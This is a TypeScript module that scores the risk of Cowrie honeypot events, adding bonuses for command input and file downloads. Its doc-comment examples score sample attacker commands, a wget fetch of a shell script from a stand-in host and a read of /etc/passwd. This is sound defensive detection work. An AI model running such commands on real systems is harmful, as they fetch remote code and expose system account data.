/**
 * Per-event risk score, as the predecessor's BulkLoader `_score_event` computed it. Events
 * scoring 90 or more were quarantined there, so keeping the numbers keeps that boundary.
 *
 * @module
 */

import { commandRiskScore } from './analyze-command.js';

/** Eventid that earns the download bonus (exact match). */
export const FILE_DOWNLOAD_EVENTID = 'cowrie.session.file_download';

/**
 * Risk score 0–100 of one event: the command risk score of its input, +10 for a command
 * event (eventid containing `command`) that carries input, +20 for
 * `cowrie.session.file_download`, capped at 100.
 *
 * Pass the event's `input`, or its `command` when `input` is missing or empty (the
 * predecessor read `input or command`). The +10 needs a non-empty string, because the
 * predecessor's `"" or None` left no command to score; a whitespace-only input still counts.
 *
 * @example
 * eventRiskScore('cowrie.command.input', 'wget http://x/a.sh'); // 100 (70 + 20 + 10)
 * eventRiskScore('cowrie.command.input', 'cat /etc/passwd');    // 10
 * eventRiskScore('cowrie.session.file_download', undefined);    // 20
 */
export function eventRiskScore(eventid: string, input: string | null | undefined): number {
  const id = typeof eventid === 'string' ? eventid : '';
  let score = 0;
  if (typeof input === 'string' && input !== '') {
    score = commandRiskScore(input);
    if (id.includes('command')) score += 10;
  }
  if (id === FILE_DOWNLOAD_EVENTID) score += 20;
  return Math.min(100, score);
}
